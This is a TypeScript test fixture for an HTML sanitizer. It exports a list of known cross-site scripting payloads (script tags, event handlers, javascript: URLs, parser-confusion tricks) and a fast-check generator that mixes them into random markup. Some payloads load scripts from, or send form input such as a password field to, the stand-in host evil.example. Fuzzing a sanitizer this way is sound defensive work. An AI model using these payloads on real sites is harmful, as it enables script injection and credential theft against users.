import { anyCodePoint } from '@teum/contract/any-code-point';
import fc from 'fast-check';

/** Markup that got past other sanitizers: scripts, handlers, foreign content, raw text, parser differences. */
export const hostileHtml = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><p><img src=x onerror=alert(1)></p></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea/><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  '<p onclick="alert(1)" class="admin" id="root" data-x="1">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x.example" onmouseover=alert(1) rel=opener target=_self>x</a>',
  "<a href='https://x.example/\"><img src=x onerror=alert(1)>'>x</a>",
  '<a title="<img src=x onerror=alert(1)>" href=https://x.example>x</a>',
  '<p><svg><p title="</svg><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml <img src=x onerror=alert(1)> ?>',
  '<p>\u0338<img src=x onerror=alert(1)>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '<p>\ud800</p>',
  '<constructor><__proto__><toString>x',
  '<img src="/media/post/origin/0123456789abcdef0123456789abcdef.webp" onload=alert(1) alt=\'"><script>\'>',
] as const;

const tags =
  'p div h1 h2 h3 h6 pre code blockquote ul ol li hr br img a strong b em i s del u span table tr td svg math style script title noscript option select form button p/ image'.split(
    ' ',
  );
const attributes = [
  '',
  ' href="https://teum.example/a?b=1&amp;c"',
  ' href=javascript:alert(1)',
  ' src="/own.webp" alt="a&quot;&lt;b"',
  ' src=x onerror=alert(1)',
  ' style="x" class=y',
  ' title="</p>"',
  " title='>'",
];
const texts = [
  '가나',
  ' ',
  '\n',
  'e\u0301',
  '\u0301',
  '\u0338',
  '>',
  '&',
  '&amp;',
  '&lt;b&gt;',
  '&#1;',
  '&#824;',
  '\u0000',
  '\ud83d',
  '😀',
  '<',
  '<3',
  '<!--',
  '-->',
  '"',
];

const tag = fc
  .tuple(fc.constantFrom('<', '</'), fc.constantFrom(...tags), fc.constantFrom(...attributes))
  .map(([bracket, name, attribute]) => `${bracket}${name}${attribute}>`);

/** Random sequences of tags, partial tags, entities, odd characters and known attacks. */
export const anyHtml = fc
  .array(
    fc.oneof(
      { weight: 5, arbitrary: tag },
      { weight: 4, arbitrary: fc.constantFrom(...texts) },
      { weight: 1, arbitrary: fc.constantFrom(...hostileHtml) },
      { weight: 1, arbitrary: fc.string({ maxLength: 8, unit: anyCodePoint }) },
    ),
    { maxLength: 40 },
  )
  .map((pieces) => pieces.join(''));
